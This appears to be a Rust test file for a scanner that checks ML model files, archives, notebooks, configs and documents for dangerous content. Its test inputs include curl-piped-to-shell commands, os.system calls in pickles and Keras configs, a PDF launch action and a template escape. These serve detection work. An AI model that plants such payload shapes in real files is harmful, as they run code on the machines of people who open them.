//! The formats beside pickle: files of their own writers (`testdata/vet/make_formats.py`), and some
//! that are put together here.

use std::fs;

use freehold_artifact::finding::Verdict;

use super::{OS, Zip, check};
use crate::scan;

macro_rules! golden {
    ($name:literal) => {
        include_bytes!(concat!("../../../../../testdata/vet/formats/", $name)).as_slice()
    };
}

#[test]
fn files_of_their_own_writers() {
    for (name, bytes, rules) in [
        ("a.keras", golden!("dense.keras"), &[][..]),
        ("a.h5", golden!("sequential.h5"), &[]),
        ("a.keras", golden!("lambda.keras"), &["keras/lambda"]),
        ("a.h5", golden!("lambda.h5"), &["keras/lambda"]),
        ("a.h5", golden!("latest.h5"), &[]),
        ("a.h5", golden!("leads-out.h5"), &["hdf5/outside-file"]),
        ("a.onnx", golden!("add.onnx"), &[]),
        ("a", golden!("above.onnx"), &["onnx/external-path"]),
        ("a.onnx", golden!("custom.onnx"), &["onnx/custom-operator"]),
        ("a.pkl.zst", golden!("calm.pkl.zst"), &[]),
        ("a.pkl.lz4", golden!("calm.pkl.lz4"), &[]),
        ("a.7z", golden!("calm.7z"), &[]),
        ("a.pkl.zst", golden!("asks.pkl.zst"), &["pickle/os-system"]),
        ("a.bin", golden!("asks.pkl.lz4"), &["pickle/os-system"]),
        ("a.7z", golden!("asks.7z"), &["pickle/os-system"]),
        ("a.7z", golden!("secret.7z"), &["archive/encrypted"]),
    ] {
        check(name, bytes, rules);
    }
}

#[test]
fn configurations_of_keras_wherever_they_are() {
    let config = br#"{"module": "keras.layers", "class_name": "Lambda", "config": {"function":
        {"module": "os", "class_name": "function", "config": "system"}}}"#;
    check("config.json", config, &["keras/dangerous-object"]);
    let zip = Zip::new().add("metadata.json", b"{}").add("config.json", config).end();
    check("model.keras", &zip, &["keras/dangerous-object"]);
    let object = [&[16, 1][..], &text(4, b"_tf_keras_layer"), &text(5, config)].concat();
    check("keras_metadata.pb", &text(1, &object), &["keras/dangerous-object"]);
}

/// A field of a message of Protocol Buffers.
fn text(number: u8, content: &[u8]) -> Vec<u8> {
    let (low, high) = (content.len() as u8 | 0x80, (content.len() >> 7) as u8);
    [&[number << 3 | 2, low, high][..], content].concat()
}

#[test]
fn graphs() {
    let node = [text(1, b"w"), text(2, b"WriteFile")].concat();
    let saved = [vec![8, 1], text(2, &text(2, &text(1, &node)))].concat();
    check("saved_model.pb", &saved, &["tensorflow/acts"]);
}

#[test]
fn code() {
    let runs = &["python/runs-program"][..];
    check("modeling_x.py", b"import os\nos.system('id')\n", runs);
    check("tool.py", b"#!/usr/bin/env python\nimport os\nos.system('id')\n", runs);
    check("tool.py", b"#!/usr/bin/env python\nimport os\n", &[]);
    check("x.py", b"x = b'\xff'\n", &["python/not-read"]);
    check("run.sh", b"curl http://127.0.0.1 | sh\n", &["file/script", "shell/fetches-and-runs"]);
    check("x.pyc", b"\xcb\x0d\r\n\0\0\0\0\0\0\0\0\0\0\0\0\xe3\xda\x01x", &["python/compiled"]);
    let harms = b"\xcb\x0d\r\n\0\0\0\0\0\0\0\0\0\0\0\0\xe3\xda\x02os\xda\x06system";
    check("x.pyc", harms, &["python/compiled-harms"]);
    check(
        "pyproject.toml",
        b"[build-system]\nbuild-backend = \"x\"\nbackend-path = [\".\"]\n",
        &["python/build-hook"],
    );
    let notebook = |code: &str| {
        format!(r#"{{"nbformat": 4, "cells": [{{"cell_type": "code", "source": ["{code}"]}}]}}"#)
    };
    check("a.ipynb", notebook("!pip install x\\nimport os").as_bytes(), &[]);
    let fetches = notebook("!curl http://127.0.0.1 | sh");
    check("a.ipynb", fetches.as_bytes(), &["shell/fetches-and-runs"]);
    let torch = |code: &[u8]| {
        Zip::new()
            .add("m/data.pkl", b"\x80\x02}q\0.")
            .add("m/code/__torch__.py", code)
            .add("m/version", b"3\n")
            .end()
    };
    check("m.pt", &torch(b"def forward(self, x):\n  return torch.relu(x)\n"), &[]);
    check("m.pt", &torch(b"_0 = torch.save(x, \"a\")\n"), &["torchscript/file-access"]);
}

#[test]
fn data_are_data_unless_something_is_in_them() {
    let picture = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR";
    check("a.png", picture, &[]);
    check("a.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF", &[]);
    check("a.parquet", b"PAR1....PAR1", &[]);
    let zip = Zip::new().add("x.pkl", OS).end();
    let both = [&picture[..], &zip].concat();
    check("a.png", &both, &["file/name-misleads", "pickle/os-system"]);
    check(
        "a.gguf",
        b"\x7fELF\x02\x01\x01\0",
        &["file/name-misleads", "file/program", "file/program-disguised"],
    );
    let end = b"\x89PNG\r\n\x1a\n\0\0\0\0IEND\xaeB`\x82";
    check("a.png", &[&end[..], OS].concat(), &["file/after-end", "pickle/os-system"]);
    check(
        "a.npy",
        &super::numpy("'|u1'", &[&[0][..], OS].concat()),
        &["file/after-end", "pickle/os-system"],
    );
    check("a.so", b"\x7fELF\x02\x01\x01\0", &["file/program"]);
}

#[test]
fn what_is_opened_or_followed() {
    let opens: &[&str] = &["file/acts-when-opened"];
    let active: &[&str] = &["file/active-document"];
    check("a.pdf", b"%PDF-1.4 << /S /Launch /F (x) >>", active);
    check("a.pdf", b"%PDF-1.4 << /OpenAction [0 /Fit] >>", &[]);
    check("a.md", b"# A\n<img src=x onerror=\"f()\">\n", active);
    check("a.md", b"# A\n```html\n<script>f()</script>\n```\n", &[]);
    check("a.bin", b"\xac\xed\0\x05sr\0\x20java.lang.Runtime", &[opens[0], "format/not-read"]);
    check("a.pbtxt", b"node { op: \"PyFunc\" }", &["tensorflow/acts"]);
    check("a.pbtxt", b"node { op: \"MatMul\" }", &[]);
    check("Dockerfile", b"RUN curl http://h/x | \\\n  sh\n", &["shell/fetches-and-runs"]);
    check(
        "a.json",
        b"// x\n{\"a\": {\"_target_\": \"os.system\", /* y */ },}\n",
        &["config/target-harms"],
    );
    check("modules.json", b"[{\"type\": \"mine.Thing\"}]", &["config/target"]);
    check(
        "model_index.json",
        b"{\"_class_name\": \"P\", \"unet\": [\"os\", \"system\"]}",
        &["config/target-harms"],
    );
    check("a.json", b"{\"chat_template\": {\"x\": \"{{ a.__class__ }}\"}}", &["template/escape"]);
    let png = b"GIF89a\x80\x02cos\nsystem\nX\x01\0\0\0a\x85R.";
    check("a.gif", png, &["pickle/os-system"]);
}

#[test]
fn what_python_keeps_of_a_source_is_judged_beside_it() {
    let compiled = b"\xcb\x0d\r\n\0\0\0\0\0\0\0\0\0\0\0\0\xe3\xda\x02os\xda\x06system";
    let table: [(&str, Option<&[u8]>, Verdict); 4] = [
        ("__pycache__/b.cpython-311.pyc", Some(b"import os\n"), Verdict::Suspicious),
        (
            "__pycache__/b.cpython-311.pyc",
            Some(b"import os\nos.system('id')\n"),
            Verdict::Malicious,
        ),
        ("__pycache__/b.cpython-311.pyc", None, Verdict::Malicious),
        ("b.pyc", Some(b"import os\n"), Verdict::Malicious),
    ];
    for (name, source, expected) in table {
        let folder = tempfile::tempdir().unwrap();
        fs::create_dir(folder.path().join("__pycache__")).unwrap();
        fs::write(folder.path().join(name), compiled).unwrap();
        if let Some(source) = source {
            fs::write(folder.path().join("b.py"), source).unwrap();
        }
        let scanned = scan(folder.path(), &|_, _| {}).unwrap();
        let file = scanned.iter().find(|file| file.path == name).unwrap();
        assert_eq!(file.verdict, expected, "{name}, {source:?}");
    }
}
